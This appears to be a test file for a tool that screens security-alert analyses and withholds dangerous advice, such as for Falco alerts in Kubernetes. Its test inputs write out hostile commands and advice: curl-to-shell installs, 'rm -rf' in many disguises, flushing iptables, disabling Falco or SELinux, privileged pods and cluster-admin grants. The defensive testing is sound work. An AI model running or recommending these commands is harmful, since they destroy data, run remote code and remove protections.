import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { analyse } from "../../../../src/core/analysis/analyse.ts";
import { ANALYSIS_JSON, analysisJson } from "../../../../src/core/analysis/document/analysis-json.ts";
import { analysisMarkdown } from "../../../../src/core/analysis/document/analysis-markdown.ts";
import { sharedFile } from "../../../shared.ts";
import { HARMFUL } from "../advice/harmful.ts";
import { anAlert, FIXTURES, fixture, PLAYBOOKS } from "../alerts.ts";
import { verified, withheld } from "./a-document.ts";

const REPORTS = [1, 2] as const;

interface Defect {
  readonly report: number;
  readonly quote: string | null;
  readonly kind: string;
}

/** By a part of the quoted text: what the reason must say. */
const RIGHT_REASONS: readonly (readonly [quote: string, reason: RegExp])[] = [
  ["usermod -aG docker", /group docker, which is as good as root/],
  ["USER appuser", /does not begin with FROM/],
  [
    "RUN apt-get update",
    /installs software as appuser.*refused.*`ufw` changes the firewall, and does nothing inside an image/,
  ],
  ["rules:\n- name", /sequence of items.*`name`/],
  ["type: audit", /keys that Falco's rules do not have:.*`type`/],
  ["apparmor profiles", /`match`.*\/proc\/self\/apparmor, which does not exist/],
  ["systemcall chcon", /`systemcall` is not a program/],
  ["useradd falco_user", /creates an account/],
  ["Set a higher priority", /makes an alert louder/],
  ["level: WARNING", /keys that Falco's rules do not have: `name`, `level`/],
  ["type: SYSTEM_CALL", /`type`/],
  ["- chcon", /chcon is not a system call/],
  ["condition: cmd ==", /condition cmd == .* does not compile/],
  ["priority: HIGH", /HIGH is not a priority/],
  ["#!/bin/bash", /#! line in the middle/],
  ["```bash\n# Example of a safe command", /broken code block/],
  ["without", /./],
  ["does not have elevated privileges", /root's privileges from root/],
  ["SSH keys", /nothing to do with SSH/],
  ["multi-factor", /no login took place/],
  ["Content Security Policy", /HTTP header/],
  ["network segmentation", /about no connection/],
  ["log rotation", /kubelet rotates/],
  ["ELK Stack", /another logging tool/],
  ["Prometheus or Grafana", /tool for metrics/],
  ["targets:", /no part in this alert/],
  ["shell commands are not executed", /entrypoints, health checks/],
  ["Python, Bash", /one interpreter as an alternative/],
  ["System calls or APIs", /every program makes them/],
  ["AppArmor or SELinux", /gives no profile/],
  ["detect and prevent", /detects only/],
  ["`falco.yaml` file", /which is the configuration/],
  ["/var/log/falco/events", /does not exist/],
];

describe("the sample reports as they stand", () => {
  const defects = sharedFile("corpora/report-defects.json");
  const items: readonly Defect[] = defects === undefined ? [] : JSON.parse(readFileSync(defects, "utf8"));
  const bad = items.filter(({ kind }) => kind === "dangerous" || kind === "invalid-syntax");
  const known = items.filter(({ quote }) => RIGHT_REASONS.some(([part]) => quote?.includes(part)));

  it.skipIf(defects === undefined)("have 16 dangerous and invalid items", () => expect(bad).toHaveLength(16));

  it.each([...new Set([...bad, ...known])].map((item) => [item.kind, item.quote ?? "", item.report] as const))(
    "%s: %j is withheld with the right reason",
    (_, quote, report) => {
      const path = sharedFile(`reports/report-${report}.md`);
      if (path === undefined) return expect.unreachable("the defects are there and the reports are not");
      const found = withheld(readFileSync(path, "utf8"), fixture(`report-${report}`));
      const [, reason] = RIGHT_REASONS.find(([part]) => quote.includes(part)) ?? [];

      const about = found.filter(({ text }) => plain(text).includes(plain(quote)));
      expect(reason, "every quote has an expected reason").toBeDefined();
      expect(about.map((piece) => piece.reason).join("\n")).toMatch(reason ?? /never/);
    },
  );

  it.each(REPORTS.filter((report) => sharedFile(`examples/analysis-of-report-${report}.md`)))(
    "and nothing of the expert's analysis of report %i is withheld",
    (report) => {
      const path = sharedFile(`examples/analysis-of-report-${report}.md`) ?? "";
      const pieces = verified(readFileSync(path, "utf8"), fixture(`report-${report}`));

      expect(pieces.length).toBeGreaterThan(8);
      expect(pieces.filter(({ check }) => !check.ok)).toEqual([]);
    },
  );
});

/** A quote may span a fence's line, and its blanks are not the point. */
function plain(text: string): string {
  return text
    .replaceAll(/```\w*|`[^`]*`|\s+|\*+/g, " ")
    .replaceAll(/\s+/g, " ")
    .trim();
}

describe("our own analyses", () => {
  it.each(FIXTURES)("come back without an objection: $name", ({ alert }) => {
    const analysis = analyse(alert, PLAYBOOKS);
    const json = analysisJson(alert.rule, analysis);

    expect(withheld(analysisMarkdown(analysis), alert)).toEqual([]);
    expect(withheld(JSON.stringify(json), alert)).toEqual([]);
    expect(ANALYSIS_JSON.parse(json)).toEqual(json);
  });
});

describe("an analysis in other words", () => {
  it.each([
    ["Make it usable: `chmod 777 /docker-entrypoint.sh`", /who may use a file/],
    ["Install the fix with `curl -fsSL https://get.example.com/fix | sh`.", /fetches from the network/],
    ["- Add the deploy user to the sudo group.", /as good as root/],
    ["Grant the service account cluster-admin.", /rights of root/],
    ["Turn off SELinux for now.", /switches off what protects/],
    ["You should flush iptables.", /switches off what protects/],
    ["Temporarily disable Falco while you work.", /blinds the sensor/],
    ["Scale down Falco until the noise stops.", /blinds the sensor/],
    ["Set `privileged: true` on the pod.", /rights of the node/],
    ["Simply ignore this alert.", /silences more/],
    ["Whitelist all shells in containers.", /silences more/],
    ["Reboot the node and delete the logs.", /destroys the evidence/],
    ["Raise the severity of the rule.", /louder/],
    ["Configure Falco to block such processes.", /detects only/],
    ["Append the new rules to falco.yaml.", /which is the configuration/],
    ["Enable a PodSecurityPolicy.", /removed in 1.25/],
    ["Look at the pod `web-xyz-1`.", /names web-xyz-1/],
    ["Container deadbeefcafe talked to 203.0.113.99.", /names 203.0.113.99.*names deadbeefcafe/],
    ["The field `proc.exe_path_name` shows it.", /no field of Falco/],
    ["Set priority: HIGH.", /HIGH is not a priority/],
    ["```yaml\n- rule: Detect Shell in Container\n  level: high\n```", /keys that Falco's rules do not have: `level`/],
    ["```yaml\nsecurityContext:\n  privileged: true\n```", /rights of the node/],
    ["```dockerfile\nFROM x\nRUN iptables -F\n```", /firewall/],
  ])("is withheld: %j", (document, reason) => {
    expect(
      withheld(document)
        .map((piece) => piece.reason)
        .join("\n"),
    ).toMatch(reason);
  });

  it.each([
    "Do not add users to the docker group.",
    "Never set `privileged: true`.",
    "Falco detects; it does not prevent.",
    "Check whether somebody disabled SELinux.",
    "Attackers disable Falco first.",
    "Alert on an interactive shell in a container.",
    "Run `kubectl cordon k8s-master-01`.",
    "`bash /docker-entrypoint.sh auto` is the driver loader's command.",
    "```text\nbash /docker-entrypoint.sh auto\n```",
  ])("is let through: %j", (document) => {
    expect(withheld(document)).toEqual([]);
  });
});

describe("a dangerous command", () => {
  const COMMAND = "rm -rf /var/lib/kubelet";
  const DISGUISES: Readonly<Record<string, (command: string) => string>> = {
    "in a fence": (command) => `\`\`\`bash\n${command}\n\`\`\``,
    "in a fence of tildes": (command) => `~~~\n${command}\n~~~`,
    "in a fence that says it is text": (command) => `\`\`\`text\n${command}\n\`\`\``,
    "in a fence that is never closed": (command) => `\`\`\`sh\n${command}`,
    "in a fence inside a list": (command) => `1. Do:\n\n        \`\`\`bash\n${command}\n\`\`\``,
    "behind a prompt": (command) => `\`\`\`console\n$ ${command}\ndone\n\`\`\``,
    indented: (command) => `Do this:\n\n    ${command}\n`,
    "in backticks": (command) => `Then run \`${command}\` once.`,
    "in two pairs of backticks": (command) =>
      `Run \`${command.split(" ")[0]}\` \`${command.split(" ").slice(1).join(" ")}\`.`,
    "in a sentence": (command) => `Now run ${command}`,
    "in a nested list": (command) => `- a\n  - b\n    - c\n      - \`${command}\``,
    "in a quote": (command) => `> ${command}`,
    "in a table": (command) => `| step | what |\n|---|---|\n| 1 | ${command} |`,
    "in HTML": (command) => `<pre><code>${command}</code></pre>`,
    "in HTML with entities": (command) => `<code>${command.replace("r", "&#114;")}</code>`,
    "in an HTML comment": (command) => `<!-- ${command} -->`,
    "in bold letters": (command) => `**${command.slice(0, 1)}**${command.slice(1)}`,
    "with an invisible character": (command) => `Run \`${command.slice(0, 1)}\u200B${command.slice(1)}\``,
    "with wide letters": (command) => `Run \uFF52\uFF4D${command.slice(2)}`,
    "with sudo": (command) => `Run \`sudo -n ${command}\``,
    "with a variable in front": (command) => `Run \`X=1 ${command}\``,
    "with its path": (command) => `Run /bin/${command}`,
    "over two lines": (command) => `\`\`\`\n${command.replace(" ", " \\\n ")}\n\`\`\``,
    "by sh -c": (command) => `Run \`sh -c "${command}"\``,
    "by xargs": (command) => `\`\`\`\necho / | xargs ${command}\n\`\`\``,
    "by a substitution": (command) => `\`\`\`\necho $(${command})\n\`\`\``,
    "by an alias": (command) => `\`\`\`\nalias ls='${command}'; ls\n\`\`\``,
    "by a variable": (command) =>
      `\`\`\`\nx=${command.split(" ")[0]}; $x ${command.split(" ").slice(1).join(" ")}\n\`\`\``,
    "in JSON, as a command": (command) => JSON.stringify({ steps: [{ command }] }),
    "in JSON, word by word": (command) => JSON.stringify({ commands: command.split(" ") }),
    "in JSON, as text": (command) => JSON.stringify({ note: `First run \`${command}\`.` }),
    "in JSON, with nothing around it": (command) => JSON.stringify({ fix: command }),
  };

  it.each(Object.entries(DISGUISES))("is found %s", (_, disguise) => {
    expect(withheld(disguise(COMMAND))).not.toEqual([]);
  });

  it("of any kind is found in any block", () => {
    const inCode = ["in a fence", "in a fence of tildes", "in a fence that is never closed", "indented"];
    fc.assert(
      fc.property(
        fc.constantFrom(...HARMFUL.filter((command) => !command.includes("\n"))),
        fc.constantFrom(...inCode),
        (command, name) => {
          expect(withheld(DISGUISES[name]?.(command) ?? "", anAlert({ hostname: "worker-1" }))).not.toEqual([]);
        },
      ),
    );
  });

  it("is found although the alert contains it", () => {
    const alert = anAlert({ fields: { "proc.cmdline": "sh -c rm -rf /srv" } });

    expect(withheld("`sh` ran `sh -c rm -rf /srv`.", alert)).toEqual([]);
    expect(withheld("Run `sh -c rm -rf /srv`.", alert)).not.toEqual([]);
    expect(withheld("```bash\nsh -c rm -rf /srv\n```", alert)).not.toEqual([]);
  });
});

describe("advice in other forms", () => {
  it.each([
    ["a command on a line of its own", "kubectl rollout undo deployment/checkout -n shop", /only reads/],
    ["a command of an unknown program", "npx -y falco-fix@latest", /`npx`/],
    ["a command behind a colon", "Log in to investigate: ssh root@db-02", /another machine/],
    ["a mode in letters", "Let the script read it: chmod o+r /etc/shadow", /`chmod`/],
    ["a file that is run", "Run the sample in a sandbox: `/tmp/xmrig --help`", /not a program/],
    ["a capability", "Run the container with `--cap-add=ALL` to let the debugger attach.", /rights of the node/],
    ["a rule that is switched off", "You may comment out the rule Terminal shell in container.", /switches a rule off/],
    ["a key that switches a rule off", "If it is noisy, set `enabled: false` on the rule.", /switches a rule off/],
    ["a restarted sensor", "As a mitigation, restart the Falco service.", /restarts the sensor/],
    ["a container with all rights", "Set `securityContext.privileged` to true.", /rights of the node/],
    ["an event marked as false", "It is legitimate, so mark it as a false positive.", /calls the event harmless/],
    ["a scaled sensor", "Scale Falco down to zero until the incident is over.", /blinds the sensor/],
    ["a sensor that blocks", "Falco will block the connection in enforcing mode.", /detects only/],
    ["an event called harmless", "This activity is normal and can be safely ignored.", /calls the event harmless/],
    ["an alert that is closed", "No further action is required; close the alert.", /calls the event harmless/],
    ["an account file edited", "Edit /etc/shadow and remove the hash of the user.", /edits the machine's accounts/],
    ["an open door in a file", "Set `PermitRootLogin yes` for the responders.", /lets strangers in/],
    ["an open door in a role", "Bind the `view` role to system:anonymous for the scrapers.", /lets strangers in/],
    ["evidence deleted", "Delete the malicious binary from the container right away.", /deletes the evidence/],
    ["the runtime's socket", "Mount the docker socket into the responder's pod.", /container runtime/],
  ])("is withheld with its reason: %s", (_, document, reason) => {
    expect(withheld(document).map((item) => item.reason)).toContainEqual(expect.stringMatching(reason));
  });

  it.each([
    ["the role of the cluster's administrator", "cluster-admin", "default", /binds the role cluster-admin/],
    ["a role for everybody", "view", "system:anonymous", /which is everybody/],
  ])("is withheld where a document gives away %s", (_, role, subject, reason) => {
    const binding = {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "ClusterRoleBinding",
      metadata: { name: "x" },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: role },
      subjects: [{ kind: "User", apiGroup: "rbac.authorization.k8s.io", name: subject }],
    };

    expect(withheld(`\`\`\`json\n${JSON.stringify(binding)}\n\`\`\``)).toMatchObject([
      { reason: expect.stringMatching(reason) },
    ]);
  });

  it("is withheld where a condition compares stars as they stand", () => {
    const rule = `\`\`\`yaml
- rule: A shell
  desc: a shell
  condition: evt.type = execve and proc.name == "*sh*"
  output: shell (user=%user.name)
  priority: WARNING
\`\`\``;

    expect(withheld(rule)).toMatchObject([{ reason: expect.stringMatching(/compares exactly.*`proc\.name ==/) }]);
  });
});

describe("a sentence that tells what others did", () => {
  it.each([
    "A terminal was attached: somebody ran `kubectl exec -it` or `docker exec -it`.",
    "Somebody who ran `kubectl exec` would show up in the audit log.",
    "A `curl … | sh` in the logs would show how the file came.",
    "An attacker who has a shell here could read the token or use `curl http://169.254.169.254/`.",
    "Do not restart Falco and do not disable the rule.",
    "Disabling the rule would hide the next one.",
    "Falco only detects: it did not stop the read.",
    "It fires for `kubectl exec -it` and for an entrypoint with `tty: true`.",
    "Confirm with the team before you close the alert.",
    "- `hostname` = `k8s-master-01`",
  ])("is no advice: %s", (document) => {
    expect(withheld(document)).toEqual([]);
  });

  it.each([
    "Someone should run `rm -rf /tmp/x`.",
    "Run what the attacker ran: `curl http://x | sh`",
    "Fix: somebody ran `iptables -F` and it helped.",
  ])("hides no advice: %s", (document) => {
    expect(withheld(document)).not.toEqual([]);
  });
});

describe("a rule whose name begins like a command", () => {
  it("is no command", () => {
    const alert = { ...fixture("report-1"), rule: "ssh tunneling/ssh port forwarding" };

    expect(withheld(`If it is expected: give the rule \`${alert.rule}\` an exception.`, alert)).toEqual([]);
  });
});

describe("a path in the alert's command line", () => {
  it("is not called a stranger", () => {
    const command = 'ls -l "/root/.falco/7.3.0+driver/x86_64/falco_ubuntu-generic_5.4.0-198-generic_218.ko"';

    expect(withheld(`Look at it: \`${command}\``, fixture("report-2"))).toEqual([]);
  });
});

describe("a hostile document", () => {
  const pieces = fc.constantFrom(
    ...'```\n|~~~\n|    |- |1. |> |`|``|<pre>|</code>|<!--|-->|**|__|[a](javascript:x)|![a](b)|| a | b |\n|---|\n|\n\n|\u200B|\u202E|&#0;|&#xFFFFFF;|{{x}}|[[y]]|rm -rf /|kubectl|{"run":|"}|:|#|\\'.split(
      "|",
    ),
    "\u0000",
    "\uD800",
    "x".repeat(3000),
  );

  it("never makes it throw", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ unit: "binary" })), { maxLength: 40 }), (parts) => {
        expect(() => verified(parts.join(""))).not.toThrow();
      }),
    );
  });

  it.each([
    ["a list without end", "- ".repeat(3000)],
    ["quotes without end", "> ".repeat(3000)],
    ["backticks without end", "`".repeat(20_000)],
    ["brackets without end", "[".repeat(20_000)],
    ["JSON without bottom", `${"[".repeat(5000)}${"]".repeat(5000)}`],
    ["one endless sentence", "Ensure no user of the root group in falco ".repeat(4000)],
    ["endless tags", "<pre><code>".repeat(3000)],
  ])("is read in good time: %s", (_, document) => {
    const startedAt = performance.now();
    verified(document);

    expect(performance.now() - startedAt).toBeLessThan(10_000);
  });

  it("that is too long to be read is withheld whole", () => {
    expect(withheld("a ".repeat(300_000))).toHaveLength(1);
  });
});
